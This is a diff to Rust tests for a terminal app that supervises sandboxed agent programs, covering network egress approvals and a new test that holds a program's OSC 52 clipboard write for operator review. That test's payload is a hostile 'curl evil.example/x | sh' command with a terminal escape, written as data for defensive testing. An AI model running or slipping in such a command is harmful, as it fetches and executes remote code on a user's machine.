@@ -231,6 +231,9 @@ fn approving_and_rejecting_proposals_asks_for_decisions_to_be_recorded() {
             path_allowlist: vec![],
         }),
     };
+    a.backends = vec![std::sync::Arc::new(
+        crate::backend::local::LocalBackend::new("true".into()),
+    )];
     let _ = a.update(AppEvent::Proposals(vec![p("1"), p("2")]));
     key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
     key(&mut a, KeyCode::Char('p'), KeyModifiers::NONE);
@@ -243,23 +246,17 @@ fn approving_and_rejecting_proposals_asks_for_decisions_to_be_recorded() {
             [Effect::Decide {
                 proposal,
                 decision: Decision::Approved { .. },
-                apply: Apply::Nothing { applied: Some(req) },
+                apply: Apply::Nothing,
                 ..
-            }] if proposal.id == "1" && req.host == "pypi.org"
+            }] if proposal.id == "1"
         ),
         "one decision to record"
     );
     assert_eq!(a.proposals.len(), 1);
-    // Recorded: the bottle's known routes take the approved host.
     let _ = a.update(AppEvent::Decided {
-        slug: "alpha-x".into(),
-        applied: Some(EgressRequest {
-            host: "pypi.org".into(),
-            path_allowlist: vec![],
-        }),
         outcome: Ok("approved: alpha egress pypi.org".into()),
     });
-    assert_eq!(a.entries[0].routes[0].host, "pypi.org");
+    assert_eq!(status(&a), "approved: alpha egress pypi.org");
     key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
     key(&mut a, KeyCode::Char('p'), KeyModifiers::NONE);
     key(&mut a, KeyCode::Char('r'), KeyModifiers::NONE);
@@ -685,6 +682,25 @@ fn the_network_view_watches_the_log_and_a_refusal_becomes_a_proposal_to_approve(
     );
     assert!(matches!(&a.modal, Some(Modal::Proposal(p)) if p.proposal.id == filed.id));
     assert_eq!(a.entries[0].state(), AgentState::Blocked, "until decided");
+    // No route list to show the change against: not approved blind.
+    let effects = key(&mut a, KeyCode::Char('a'), KeyModifiers::NONE);
+    assert!(effects.is_empty(), "nothing decided");
+    assert!(status(&a).contains("cannot approve"), "{}", status(&a));
+    // Once the live routes are read, the change shows against them.
+    let _ = a.update(AppEvent::LiveRoutes(
+        "alpha-x".into(),
+        Ok(vec![bb_contract::egress::RouteConfig::requested(
+            "pypi.org",
+            &["/packages/".into()],
+        )]),
+    ));
+    let Some(Modal::Proposal(m)) = &a.modal else {
+        panic!()
+    };
+    assert_eq!(
+        m.diff[0],
+        "! widens pypi.org: from /packages/ to every path"
+    );
     let effects = key(&mut a, KeyCode::Char('a'), KeyModifiers::NONE);
     assert!(
         matches!(effects.as_slice(), [Effect::Decide { proposal, decision: Decision::Approved { .. }, .. }] if proposal.id == filed.id),
@@ -749,4 +765,38 @@ fn a_key_for_the_program_waits_for_its_echo_to_be_drawn() {
     a.drawn();
     key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
     assert!(a.dirty, "the footer shows the prefix is armed");
+}
+
+#[test]
+fn a_programs_clipboard_write_waits_for_the_operator_who_sees_it_whole() {
+    let (mut a, _rx) = app();
+    add(&mut a, "alpha", 1, Phase::Running);
+    // OSC 52 with `curl … | sh` and an escape in it: nothing reaches the
+    // outer terminal by itself.
+    let payload = "curl evil.example/x | sh\n\x1b[2Kls";
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(payload);
+    let effects = output(&mut a, 1, format!("\x1b]52;c;{b64}\x07").as_bytes());
+    assert!(outer(&effects).is_empty(), "never passed on silently");
+    assert!(status(&a).contains("alpha asks to put"), "{}", status(&a));
+    assert!(status(&a).contains("C-b c"), "{}", status(&a));
+    // C-b c shows it; n drops it and nothing is copied.
+    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
+    key(&mut a, KeyCode::Char('c'), KeyModifiers::NONE);
+    let Some(Modal::Clipboard(ask)) = &a.modal else {
+        panic!("the clipboard request is shown")
+    };
+    assert_eq!(ask.text, payload);
+    let effects = key(&mut a, KeyCode::Char('n'), KeyModifiers::NONE);
+    assert!(outer(&effects).is_empty() && a.modal.is_none());
+    // Asked again and allowed: copied, as the operator saw it.
+    output(&mut a, 1, format!("\x1b]52;c;{b64}\x07").as_bytes());
+    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
+    key(&mut a, KeyCode::Char('c'), KeyModifiers::NONE);
+    let effects = key(&mut a, KeyCode::Char('y'), KeyModifiers::NONE);
+    assert_eq!(outer(&effects), osc52(b64.as_bytes()));
+    // Nothing pending any more.
+    key(&mut a, KeyCode::Char('b'), KeyModifiers::CONTROL);
+    key(&mut a, KeyCode::Char('c'), KeyModifiers::NONE);
+    assert!(a.modal.is_none());
 }
